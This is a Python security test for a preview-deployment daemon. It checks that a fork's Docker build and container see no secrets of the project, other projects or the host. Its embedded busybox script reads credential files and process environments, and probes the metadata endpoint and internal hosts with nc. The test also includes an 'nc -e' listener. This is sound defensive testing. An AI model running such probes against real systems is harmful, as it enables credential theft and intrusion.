#!/usr/bin/env python3
"""SEC-26, SEC-45: what a fork's build and run can see, told by the fork's own code: its environment, its
files and mounts, its processes, whom it reaches; and what Docker keeps of it."""

import base64
import json
import os
import socket
import subprocess
import sys
import threading
import unittest
import urllib.parse

from daemon import COMPOSE, SOURCE, Daemon, Repository, small, until

sys.path.insert(0, str(SOURCE / "tests/support"))
from hub import Hub  # noqa: E402

SECRETS = {
    "webhook secret": "sentinel-webhook-61c1",
    "old webhook secret": "sentinel-old-webhook-9d3e",
    "webhook secret of the project": "sentinel-project-webhook-77aa",
    "registry password": "sentinel-registry-5b20",
    "variable of the daemon": "sentinel-environment-0e4f",
    "other project's variable": "sentinel-other-variable-c3d4",
    "other project's page": "sentinel-other-page-18f0",
    "this machine": "sentinel-this-machine-ab12",
}

# A machine beyond the host's own: a network namespace that plays the internet (RFC 5737).
NEAR, FAR, FAR_PORT = "203.0.113.1", "203.0.113.2", 8099
BEYOND = "you-reached-the-internet"
OUT = (
    "#!/bin/busybox sh\n/bin/busybox printf 'Content-Type: text/plain\\r\\n\\r\\n'\n"
    f"/bin/busybox nc -w 5 {FAR} {FAR_PORT} </dev/null 2>&1\n"
)

# What may hold a login, and what a container has no business to see.
FILES = (
    "/root/.netrc /root/.docker/config.json /root/.git-credentials /root/.gitconfig /etc/netrc "
    "/var/run/docker.sock /run/docker.sock /run/secrets /proc/self/environ /proc/1/environ "
    "/proc/self/mountinfo /proc/self/cgroup /proc/net/route /proc/net/tcp /etc/hosts "
    "/etc/resolv.conf /.git/config /.dockerenv"
)

DUMP = """
out=$1; b=/bin/busybox
$b mkdir -p /www
{
    echo "== environment"; $b env
    for file in %(files)s; do echo "== $file"; $b ls -la $file; $b cat $file; done
    for process in /proc/[0-9]*; do $b cat $process/cmdline $process/environ; done
    echo "== files"
    $b find / -xdev -type f -size -64k ! -path '/proc/*' ! -path '/sys/*' ! -path '/www/*' \\
        -exec $b cat {} +
    echo "== reached"
    set -- $($b ip route | $b grep default)
    for host in 127.0.0.1 169.254.169.254 $3 %(hosts)s; do
        for port in %(ports)s; do
            printf 'GET / HTTP/1.0\\r\\nHost: %(name)s\\r\\n\\r\\n' |
                $b nc -w 3 $host $port >$out.$host.$port 2>&1 &
        done
    done
    wait
    for answer in $out.*.*; do echo "-- $answer"; $b cat $answer; done
    echo "== end"
} >$out.part 2>&1 </dev/null
$b mv $out.part $out
"""

# Both begin alike, so that a layer of one could serve the other.
BEGIN = (
    "FROM scratch\nCOPY busybox /bin/busybox\n"
    'RUN ["/bin/busybox", "sh", "-c", "/bin/busybox mkdir /www; /bin/busybox head -c 16 /dev/urandom'
    ' | /bin/busybox hexdump -C > /www/layer"]\n'
)
ARGUMENTS = ["GITHUB_TOKEN", "DIORAMA_GITHUB_TOKEN", "DIORAMA_GITHUB_WEBHOOK_SECRET", "SENTINEL"]
FORK = (
    BEGIN + "".join(f"ARG {name}\n" for name in ARGUMENTS) + "COPY dump /dump\n"
    'RUN ["/bin/busybox", "sh", "/dump", "/www/build"]\nEXPOSE 8080\nCMD ["/bin/busybox", "sh", "-c", '
    '"/bin/busybox sh /dump /www/run; exec /bin/busybox httpd -f -p 8080 -h /www"]\n'
)
TRUSTED = BEGIN + 'COPY out /www/cgi-bin/out\nEXPOSE 8080\nCMD ["/bin/busybox", "httpd", "-f", "-p", "8080", "-h", "/www"]\n'


def own_addresses():
    said = subprocess.run(["hostname", "-I"], check=True, capture_output=True, text=True).stdout
    return [word for word in said.split() if "." in word]


class Fork(unittest.TestCase):
    def setUp(self):
        self.hub = Hub(os.environ["DIORAMA_HUB"])
        self.addCleanup(self.hub.close)
        self.hub.control("create", name="ada/shop")
        self.secrets = {**SECRETS, "token of the forge": self.hub.token}
        s = self.secrets
        self.daemon = Daemon(
            f'[github]\nwebhook_secret = "{s["webhook secret"]}"\n'
            f'webhook_secret_old = "{s["old webhook secret"]}"\npoll = "1s"\n'
            f'api = "{self.hub.url}"\nweb = "{self.hub.url}"\n'
            f'[projects."ada/shop"]\nwebhook_secret = "{s["webhook secret of the project"]}"\n'
            f'[registries."registry.example.com"]\nuser = "robot"\n'
            f'password = "{s["registry password"]}"\n',
            DIORAMA_REPOSITORIES_PLAIN_HTTP="true",
            DIORAMA_GITHUB_TOKEN=self.hub.token,
            SENTINEL=s["variable of the daemon"],
            GITHUB_TOKEN=s["variable of the daemon"],
        ).start()
        self.addCleanup(self.daemon.end)
        self.secrets["first token of the API"] = self.daemon.token
        self.listen()
        self.internet()
        self.shop = small(self.daemon.folder / "shop")
        self.push(self.shop, "ada/shop", self.hub.token, "main")
        url = f"http://127.0.0.1:{self.daemon.api_port}/webhooks/github"
        secret = s["webhook secret of the project"]
        self.hub.control("hook", name="ada/shop", url=url, secret=secret)

    def listen(self):
        """A service of this machine that tells everybody who reaches it."""
        server = socket.create_server(("0.0.0.0", 0))
        self.addCleanup(server.close)
        self.port = server.getsockname()[1]
        said = self.secrets["this machine"].encode() + b"\n"

        def serve():
            while True:
                try:
                    visitor, _ = server.accept()
                except OSError:
                    return
                visitor.sendall(said)
                visitor.close()

        threading.Thread(target=serve, daemon=True).start()
        with socket.create_connection(("127.0.0.1", self.port)) as one:
            self.assertEqual(one.recv(100), said)

    def internet(self):
        """Greets whoever gets through to it."""
        name = f"dior-{os.getpid()}"

        def ip(*words):
            subprocess.run(["ip", *words], check=True)

        ip("netns", "add", name)
        self.addCleanup(ip, "netns", "del", name)  # Takes both interfaces along.
        near, far = f"n{os.getpid()}", f"f{os.getpid()}"
        ip("link", "add", near, "type", "veth", "peer", "name", far, "netns", name)
        ip("addr", "add", f"{NEAR}/24", "dev", near)
        ip("link", "set", near, "up")
        ip("-n", name, "addr", "add", f"{FAR}/24", "dev", far)
        ip("-n", name, "link", "set", far, "up")
        ip("-n", name, "route", "add", "default", "via", NEAR)
        words = ["busybox", "nc", "-ll", "-p", str(FAR_PORT), "-e", "/bin/busybox", "echo", BEYOND]
        server = subprocess.Popen(["ip", "netns", "exec", name, *words])
        self.addCleanup(server.wait)
        self.addCleanup(server.kill)

    def push(self, clone, repository, token, branch):
        target = self.hub.url.replace("://", f"://x:{token}@") + f"/{repository}.git"
        commit = clone.commit("Change it")
        clone.git("push", "--quiet", "--force", target, f"HEAD:refs/heads/{branch}")
        return commit

    def environment(self, number):
        for one in self.daemon.get("/api/v1/environments")["items"]:
            if one.get("pull_request") == number:
                return self.daemon.environment(one["id"])
        return None

    def ready(self, number, commit):
        def is_ready():
            one = self.environment(number)
            if one and one["state"] == "failed":
                lines = [line["text"] for line in self.daemon.lines(one["id"])]
                raise AssertionError("\n".join([one["cause"], *lines[-30:]]))
            return one and one["state"] == "ready" and one["serving_commit"] == commit and one

        return until(is_ready, f"the preview of #{number}", limit=120)

    def other_project(self):
        """Its scene runs beside the fork's; where its page is."""
        other = small(self.daemon.folder / "bob" / "till", self.secrets["other project's page"])
        variable = self.secrets["other project's variable"]
        other.write("compose.yaml", COMPOSE + f"    environment:\n      TOKEN: {variable}\n")
        other.commit()
        environment = self.daemon.deploy(other).json
        self.assertEqual(environment["state"], "ready", environment)
        label = [f"diorama.environment={environment['id']}"]
        found = self.daemon.engine.get("/containers/json?", label=label)
        networks = found[0]["NetworkSettings"]["Networks"].values()
        host = urllib.parse.urlsplit(environment["services"][0]["url"]).netloc
        return [network["IPAddress"] for network in networks], host

    def layer(self, environment):
        answer = self.daemon.page(environment, path="/layer")
        self.assertEqual(answer.status, 200, answer)
        return answer.text

    def trusted(self, branch, number):
        self.shop.write("Dockerfile", TRUSTED)
        self.shop.write("out", OUT)
        (self.shop.folder / "out").chmod(0o755)
        self.shop.write("www/index.html", branch)
        commit = self.push(self.shop, "ada/shop", self.hub.token, branch)
        self.hub.control("open", repository="ada/shop", head=branch, author="ada")
        environment = self.ready(number, commit)
        answer = self.daemon.page(environment, path="/cgi-bin/out")
        self.assertIn(BEYOND, answer.text, "the project's own scene does not reach the internet")
        return self.layer(environment)

    def fork(self, addresses, host):
        eve = self.hub.control("token", login="eve")["token"]
        self.hub.control("fork", name="ada/shop", owner="eve")
        clone = Repository(self.daemon.folder / "fork")
        clone.git("pull", "--quiet", str(self.shop.folder), "HEAD")
        ports = [FAR_PORT, self.port, self.daemon.api_port, self.daemon.gateway_port, 8080, 80, 2375]
        clone.write("dump", DUMP % {
            "files": FILES,
            "hosts": " ".join([FAR, *addresses, *own_addresses()]),
            "ports": " ".join(str(port) for port in ports),
            "name": host,
        })
        clone.write("Dockerfile", FORK)
        words = [f"${{{name}:-none}}" for name in [*ARGUMENTS, "HOME", "DIORAMA_PR"]]
        clone.write("compose.yaml", json.dumps({"services": {"page": {
            "build": {"context": ".", "args": {name: f"${{{name}:-none}}" for name in ARGUMENTS}},
            "ports": ["8080"],
            "environment": {f"WORD{i}": word for i, word in enumerate(words)},
            "healthcheck": {"test": ["CMD", "/bin/busybox", "test", "-e", "/www/run"],
                            "interval": "1s", "retries": 50, "start_period": "60s"},
        }}}))
        commit = self.push(clone, "eve/shop", eve, "hats")
        self.hub.control("open", repository="ada/shop", head="eve:hats", author="eve")
        held = until(lambda: (e := self.environment(2)) and e["state"] == "awaiting_approval" and e,
                     "the fork to wait")
        path = f"/api/v1/environments/{held['id']}/approve"
        answer = self.daemon.api("POST", path, {"commit": commit})
        self.assertIn(answer.status, (200, 202), answer)
        return self.ready(2, commit)

    def docker_knows(self, environment):
        """All that Docker says of the fork's containers, images, networks and volumes."""
        engine, label = self.daemon.engine, [f"diorama.environment={environment['id']}"]
        containers = engine.get("/containers/json?all=1&", label=label)
        self.assertEqual(len(containers), 1)
        networks = engine.get("/networks?", label=label)
        self.assertTrue(networks and all(network["Internal"] for network in networks), networks)
        said = [networks, engine.get("/volumes?", label=label)]
        for container in containers:
            whole = engine.get(f"/containers/{container['Id']}/json")
            image = whole["Image"]
            said += [whole, engine.get(f"/images/{image}/json"), engine.get(f"/images/{image}/history")]
            self.assertEqual([m for m in whole["Mounts"] if m["Type"] != "volume"], [])
            self.assertFalse(whole["HostConfig"]["Privileged"])
        return json.dumps(said)

    def test_SEC_26_SEC_45_a_forks_build_and_run_see_no_secret_of_anybody(self):
        first = self.trusted("till", 1)
        environment = self.fork(*self.other_project())
        place = f"/api/v1/environments/{environment['id']}"
        seen = {
            "what the build saw": self.daemon.page(environment, path="/build").text,
            "what the run saw": self.daemon.page(environment, path="/run").text,
            "what Docker knows": self.docker_knows(environment),
            "its logs": self.daemon.api("GET", f"{place}/logs?limit=1000").text,
            "the comments": json.dumps(self.hub.ask("GET", "/repos/ada/shop/issues/2/comments")[2]),
        }
        for name in ("what the build saw", "what the run saw"):
            self.assertIn("/proc/self/mountinfo", seen[name], seen[name][:2000])
            self.assertRegex(seen[name], r"== reached[\s\S]*== end", "it could not be told to the end")
        self.assertIn("WORD5=2", seen["what the run saw"], "its own variables are what it may see")
        self.assertIn("WORD0=none", seen["what the run saw"])
        for where, text in seen.items():
            for what, secret in self.secrets.items():
                alike = [secret, base64.b64encode(secret.encode()).decode().rstrip("=")]
                for form in alike:
                    self.assertNotIn(form, text, f"{where} holds the {what}")
        self.assertNotIn(BEYOND, seen["what the run saw"], "a stranger's scene reaches the internet")
        for name in ("what the build saw", "what the run saw"):
            self.assertNotIn("HTTP/1", seen[name].rsplit("== reached", 1)[1], f"{name}: somebody answered")

        # Its layers are its own: it takes none of ours, and we take none of its.
        mine = self.layer(environment)
        self.assertNotEqual(mine, first, "the fork's image was built on the project's layers")
        third = self.trusted("again", 3)
        self.assertNotEqual(third, mine, "the project's image was built on the fork's layers")


if __name__ == "__main__":
    unittest.main()
